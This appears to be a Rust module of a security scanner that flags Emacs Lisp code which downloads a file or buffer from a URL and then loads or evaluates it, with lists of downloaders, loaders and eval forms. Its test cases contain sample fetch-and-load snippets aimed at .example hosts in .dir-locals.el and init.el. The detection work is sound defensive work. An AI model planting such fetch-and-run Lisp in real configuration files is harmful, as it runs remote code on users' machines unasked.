//! Round 31 (covert31): Emacs Lisp that runs code it fetched, and the
//! switches that let a visited file run code unasked. Read at token level
//! in `.el` files and every Lisp auto-run place (`.dir-locals.el`, whose
//! `eval` entries run on visiting any file of the folder; init files).
//!
//! - **Fetched, then loaded.** A download into a file (`url-copy-file URL
//!   F`) whose destination form is the argument of a loader (`load`,
//!   `load-file`, `load-library`, `byte-compile-file`,
//!   `package-install-file`, `require` with a file name) is a
//!   download-and-run; a download into a buffer (`url-retrieve-
//!   synchronously`, `url-insert-file-contents`) with an evaluation of the
//!   buffer after it (`eval-buffer`, `eval-region`, `(eval (read …))`) is
//!   one too. The URL is the literal, or the `concat` of the literals, the
//!   fetch names.
//! - `org-confirm-babel-evaluate` set to nil is not read yet: as an
//!   approval switch it failed a skill on its own (SK-PRIV-006 high, the
//!   `editor-trust` downgrade did not apply), too strong for an everyday
//!   literate-programming setting.
//!
//! Linear: one pass finds the forms, each form's arguments are read once.

use super::{Sink, Src};

/// Calls that download a URL (first argument) into a file (second).
const TO_FILE: &[&str] = &["url-copy-file"];
/// Calls that download a URL into a buffer.
const TO_BUFFER: &[&str] = &[
    "url-retrieve-synchronously",
    "url-insert-file-contents",
    "url-retrieve",
];
/// Round 42: calls that run a program and return or insert its output; a
/// download program among their arguments (`(shell-command-to-string
/// "curl -fsS URL")`, `(call-process "curl" nil t nil URL)`) makes them a
/// download into text or the buffer.
const PROC_FETCH: &[&str] = &[
    "shell-command-to-string",
    "process-lines",
    "call-process",
    "call-process-shell-command",
    "shell-command",
];
/// Bytes before a fetch within which an evaluation may wrap it.
const WRAP_BYTES: usize = 64;
/// Download programs, as the first word of a command.
const DOWNLOADERS: &[&str] = &["curl", "wget", "aria2c", "xh"];

/// Whether a process form's first argument starts a download program.
fn runs_downloader(f: &Form) -> bool {
    f.args.first().is_some_and(|a| {
        let a = a.trim_start_matches(['"', ' ']);
        DOWNLOADERS.iter().any(|d| {
            a.strip_prefix(d)
                .is_some_and(|r| r.is_empty() || r.starts_with([' ', '"']))
        })
    })
}

/// Calls that load a file as Lisp (first argument).
const LOADERS: &[&str] = &[
    "load",
    "load-file",
    "load-library",
    "byte-compile-file",
    "package-install-file",
];
/// Forms that evaluate the current buffer or text read from it.
const BUFFER_EVALS: &[&str] = &[
    "(eval-buffer",
    "(eval-region",
    "(eval (read",
    "(eval(read",
    "(eval (car (read",
];
/// One form `(name …)`: where it opens and its argument texts.
struct Form<'t> {
    at: usize,
    args: Vec<&'t str>,
}

/// The forms `(name …)` of `text`, at most `max_args` arguments each.
fn forms<'t>(text: &'t str, name: &str, max_args: usize) -> Vec<Form<'t>> {
    let b = text.as_bytes();
    let mut out = Vec::new();
    let pat = format!("({name}");
    for (at, _) in text.match_indices(&pat) {
        let end = at + pat.len();
        if end < b.len() && !matches!(b[end], b' ' | b'\t' | b'\n' | b'\r' | b')') {
            continue;
        }
        if comment_line(text, at) {
            continue;
        }
        let mut args = Vec::new();
        let mut i = end;
        while args.len() < max_args {
            let Some((s, e)) = sexp(b, i) else { break };
            args.push(&text[s..e]);
            i = e;
        }
        out.push(Form { at, args });
    }
    out
}

/// A line whose code a `;` comment opens.
fn comment_line(text: &str, at: usize) -> bool {
    let from = text[..at].rfind('\n').map_or(0, |i| i + 1);
    text[from..at].contains(';')
}

/// The next s-expression from `i`: its span, or `None` at a `)` or the end.
/// Strings may hold escaped quotes; lists nest.
fn sexp(b: &[u8], mut i: usize) -> Option<(usize, usize)> {
    while i < b.len() && b[i].is_ascii_whitespace() {
        i += 1;
    }
    if i >= b.len() || b[i] == b')' {
        return None;
    }
    let s = i;
    while i < b.len() && matches!(b[i], b'\'' | b'`' | b',' | b'#') {
        i += 1;
    }
    match b.get(i)? {
        b'"' => {
            i += 1;
            while i < b.len() && b[i] != b'"' {
                i += if b[i] == b'\\' { 2 } else { 1 };
            }
            Some((s, (i + 1).min(b.len())))
        }
        b'(' => {
            let mut depth = 0usize;
            while i < b.len() {
                match b[i] {
                    b'(' => depth += 1,
                    b')' => {
                        depth -= 1;
                        if depth == 0 {
                            return Some((s, i + 1));
                        }
                    }
                    b'"' => {
                        i += 1;
                        while i < b.len() && b[i] != b'"' {
                            i += if b[i] == b'\\' { 2 } else { 1 };
                        }
                    }
                    _ => {}
                }
                i += 1;
            }
            Some((s, b.len()))
        }
        _ => {
            while i < b.len() && !b[i].is_ascii_whitespace() && !matches!(b[i], b'(' | b')') {
                i += 1;
            }
            Some((s, i))
        }
    }
}

/// The URL a fetch's first argument names: a string literal, or the
/// literals of a `concat` joined.
fn url_of(arg: &str) -> String {
    let mut out = String::new();
    let mut rest = arg;
    while let Some(q) = rest.find('"') {
        let tail = &rest[q + 1..];
        let Some(e) = tail.find('"') else { break };
        out.push_str(&tail[..e]);
        rest = &tail[e + 1..];
    }
    if out.contains("://") {
        out
    } else {
        "fetched code".to_string()
    }
}

/// Reads one Lisp unit (see the module docs).
pub fn scan(src: &Src, sink: &mut Sink) {
    let text = src.text;
    let mut found = Vec::new();
    // Fetched into a file, then loaded.
    let mut files: Vec<(&str, String)> = Vec::new();
    for name in TO_FILE {
        for f in forms(text, name, 2) {
            if let [url, dest] = f.args[..] {
                files.push((dest.trim(), url_of(url)));
            }
        }
    }
    if !files.is_empty() {
        for name in LOADERS {
            for f in forms(text, name, 1) {
                let Some(arg) = f.args.first().map(|a| a.trim()) else {
                    continue;
                };
                if let Some((_, url)) = files.iter().find(|(d, _)| *d == arg) {
                    found.push((f.at, url.clone(), format!("{name} of a downloaded file")));
                }
            }
        }
    }
    // Fetched into a buffer, then the buffer evaluated.
    let fetch_at = TO_BUFFER
        .iter()
        .flat_map(|n| forms(text, n, 1))
        .chain(
            PROC_FETCH
                .iter()
                .flat_map(|n| forms(text, n, 1))
                .filter(runs_downloader),
        )
        .min_by_key(|f| f.at);
    if let Some(fetch) = fetch_at {
        let url = fetch
            .args
            .first()
            .map_or_else(|| "fetched code".to_string(), |a| url_of(a));
        // Round 42: the evaluation may wrap the fetch (`(eval (read
        // (shell-command-to-string "curl …")))`): read from a little
        // before it.
        let from = crate::text::clamp_boundary(text, fetch.at.saturating_sub(WRAP_BYTES));
        if let Some((at, what)) = BUFFER_EVALS
            .iter()
            .filter_map(|w| text[from..].find(w).map(|i| (from + i, *w)))
            .filter(|(at, _)| !comment_line(text, *at))
            .min()
        {
            found.push((at, url, format!("{} of a downloaded buffer", &what[1..])));
        }
    }
    for (at, url, label) in found {
        let ev = super::download_run::DownloadRun::code(url, Vec::new())
            .instrument(label)
            .lower();
        let end = text[at..].find('\n').map_or(text.len(), |i| at + i);
        sink.push(src.at(ev, at, end, "code"));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::{Evidence, Op, Origin};

    fn run(path: &str, t: &str) -> Vec<Evidence> {
        let src = Src::new(path, t, Origin::Script);
        let mut sink = Sink::default();
        scan(&src, &mut sink);
        sink.items
    }

    #[test]
    fn fetched_file_loaded_and_buffer_evaluated() {
        let t = "(let ((f (expand-file-name \"x.el\")))\n  (url-copy-file (concat \"https://\" \"env\" \".example/e.el\") f t)\n  (load f t t))";
        let e = run(".dir-locals.el", t);
        assert!(
            e.iter()
                .any(|e| e.op == Op::DownloadExec && e.target.contains("https://env.example/e.el")),
            "{e:#?}"
        );
        let t = "(with-current-buffer (url-retrieve-synchronously \"https://x.example/a.el\")\n  (goto-char url-http-end-of-headers)\n  (eval-buffer))";
        assert!(run("init.el", t).iter().any(|e| e.op == Op::DownloadExec));
        // A local file loaded, a download saved and never loaded.
        let t = "(load (expand-file-name \"lib.el\" dir))\n(url-copy-file \"https://x.example/data.csv\" \"/tmp/d.csv\")\n(load \"/tmp/other.el\")";
        assert!(run("init.el", t).iter().all(|e| e.op != Op::DownloadExec));
    }
}
